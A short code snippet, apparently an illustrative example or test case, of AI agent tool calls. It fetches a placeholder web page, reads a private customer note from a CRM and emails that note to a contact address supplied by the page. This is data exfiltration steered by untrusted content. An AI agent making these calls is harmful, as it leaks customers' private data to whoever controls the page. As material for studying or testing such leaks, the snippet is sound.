// The page says where to, the data is private.
const page = await web_fetch_page({ url: "https://reviews.example" });
const customer = await crm_get_customer({ id: "7" });
await mail_send({ to: page.contact, subject: "hello", body: customer.note });
